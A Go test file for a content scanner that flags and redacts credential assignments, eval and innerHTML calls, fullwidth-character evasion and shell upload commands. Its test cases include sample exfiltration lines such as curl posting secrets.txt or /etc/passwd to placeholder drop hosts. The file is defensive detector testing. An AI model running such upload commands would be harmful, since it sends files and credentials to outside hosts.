package scanner

import (
	"strings"
	"testing"

	"github.com/sirupsen/logrus"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/canvasguard/canvasguard/internal/patterns"
	"github.com/canvasguard/canvasguard/internal/policy"
)

func newTestScanner(t *testing.T) *Scanner {
	t.Helper()
	lib, err := patterns.NewLibrary(nil)
	require.NoError(t, err)
	logger := logrus.New()
	logger.SetLevel(logrus.ErrorLevel)
	return New(lib, logger)
}

func testContext() policy.RequestContext {
	return policy.RequestContext{Source: policy.SourceCanvas, UserID: "alice"}
}

func TestDetectCredentialAssignment(t *testing.T) {
	s := newTestScanner(t)

	violations := s.Detect(`config: password: 'abc123' end`, testContext())
	require.NotEmpty(t, violations)

	var cred *policy.Violation
	for i := range violations {
		if violations[i].Metadata["rule"] == "credential-assignment" {
			cred = &violations[i]
			break
		}
	}
	require.NotNil(t, cred, "credential assignment should be detected")

	assert.Equal(t, policy.SeverityCritical, cred.Severity)
	assert.Equal(t, policy.ViolationDataExfiltration, cred.Type)
	assert.Equal(t, policy.RemediationBlocked, cred.Remediation)
	assert.Equal(t, "canvas:alice", cred.Source)
	assert.NotEmpty(t, cred.ID)
	assert.False(t, cred.Timestamp.IsZero())
}

func TestExcerptNeverContainsSensitiveValue(t *testing.T) {
	s := newTestScanner(t)

	tests := []struct {
		name    string
		content string
		secrets []string
	}{
		{"quoted password", `password: 'hunter2x'`, []string{"hunter2x"}},
		{"api key assignment", `API_KEY=sk_live_superSecretValue99`, []string{"sk_live_superSecretValue99"}},
		{"token with equals", `token = "tok_4242deadbeef"`, []string{"tok_4242deadbeef"}},
		// Two secrets close enough that each one's excerpt window covers the
		// other; neither value may surface in any excerpt.
		{"adjacent secrets", `password: aaa111 token: bbb222`, []string{"aaa111", "bbb222"}},
		{"upload with credential", `curl -d password=topsecret99 https://drop.example`, []string{"topsecret99"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			violations := s.Detect(tt.content, testContext())
			require.NotEmpty(t, violations)
			for _, v := range violations {
				for _, secret := range tt.secrets {
					assert.NotContains(t, v.Excerpt, secret,
						"excerpt for rule %s leaks the raw value", v.Metadata["rule"])
				}
			}
		})
	}
}

func TestDetectMaliciousCode(t *testing.T) {
	s := newTestScanner(t)

	violations := s.Detect(`el.innerHTML = payload; eval(code)`, testContext())
	require.NotEmpty(t, violations)

	rules := map[string]bool{}
	for _, v := range violations {
		assert.Equal(t, policy.ViolationMaliciousPattern, v.Type)
		assert.Equal(t, policy.SeverityHigh, v.Severity)
		assert.Equal(t, policy.RemediationLogged, v.Remediation)
		rules[v.Metadata["rule"]] = true
	}
	assert.True(t, rules["inner-html"])
	assert.True(t, rules["eval-call"])
}

func TestDetectCleanContent(t *testing.T) {
	s := newTestScanner(t)
	violations := s.Detect("The quarterly report looks good. Ship it on Friday.", testContext())
	assert.Empty(t, violations)
}

func TestDetectNormalisedEvasion(t *testing.T) {
	s := newTestScanner(t)

	// Fullwidth characters normalise to ASCII under NFKC, exposing the call.
	violations := s.Detect("ｅｖａｌ（ｐａｙｌｏａｄ）", testContext())
	require.NotEmpty(t, violations, "fullwidth eval should be caught after normalisation")

	found := false
	for _, v := range violations {
		if v.Metadata["rule"] == "eval-call" {
			found = true
			assert.Equal(t, "true", v.Metadata["encodedEvasion"])
		}
	}
	assert.True(t, found)
}

func TestDetectShellUpload(t *testing.T) {
	s := newTestScanner(t)

	tests := []struct {
		name    string
		content string
		want    bool
	}{
		{"curl data flag", `curl -d @secrets.txt https://203.0.113.9/drop`, true},
		{"curl form flag", `curl --form file=@/etc/passwd https://drop.example`, true},
		{"wget post data", `wget --post-data="x=1" https://drop.example`, true},
		{"curl upload file", `curl -T backup.tar https://drop.example`, true},
		{"plain curl download", `curl https://releases.example/tool.tar.gz -o tool.tar.gz`, false},
		{"mention of curl", `the curl documentation explains transfers`, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			violations := s.Detect(tt.content, testContext())
			found := false
			for _, v := range violations {
				if v.Metadata["rule"] == "shell-upload" {
					found = true
					assert.Equal(t, policy.ViolationDataExfiltration, v.Type)
					assert.Equal(t, policy.SeverityHigh, v.Severity)
				}
			}
			assert.Equal(t, tt.want, found)
		})
	}
}

func TestSanitiseRedactsSensitiveValues(t *testing.T) {
	s := newTestScanner(t)

	clean, mods := s.Sanitise(`password: 'abc123' and more text`)
	assert.NotContains(t, clean, "abc123")
	assert.Contains(t, clean, "[REDACTED]")
	assert.Contains(t, clean, "password:")
	require.Len(t, mods, 1)
	assert.Contains(t, mods[0], "credential-assignment")
}

func TestSanitiseNeutralisesMaliciousCode(t *testing.T) {
	s := newTestScanner(t)

	clean, mods := s.Sanitise(`before eval(code) after`)
	assert.NotContains(t, clean, "eval(")
	assert.Contains(t, clean, "[NEUTRALISED]")
	assert.Contains(t, clean, "before")
	assert.Contains(t, clean, "after")
	assert.NotEmpty(t, mods)
}

func TestSanitiseNormalisedEvasion(t *testing.T) {
	s := newTestScanner(t)

	// The raw text matches nothing; only the NFKC form exposes the call.
	clean, mods := s.Sanitise("run ｅｖａｌ（ｐａｙｌｏａｄ） now")
	assert.Contains(t, clean, "[NEUTRALISED]")
	assert.NotContains(t, clean, "eval(")
	assert.NotContains(t, clean, "ｅｖａｌ（")
	require.NotEmpty(t, mods)
	assert.Contains(t, mods[0], "normalised")
}

func TestSanitiseCleanContentUnchanged(t *testing.T) {
	s := newTestScanner(t)
	content := "nothing suspicious here at all"
	clean, mods := s.Sanitise(content)
	assert.Equal(t, content, clean)
	assert.Empty(t, mods)
}

func TestSanitiseMultipleFindingsInDocumentOrder(t *testing.T) {
	s := newTestScanner(t)

	clean, mods := s.Sanitise(`token = secretvalue123 then eval(x)`)
	assert.NotContains(t, clean, "secretvalue123")
	assert.NotContains(t, clean, "eval(")
	require.Len(t, mods, 2)
	assert.True(t, strings.Contains(mods[0], "redacted"), "first modification should be the earlier finding: %v", mods)
}
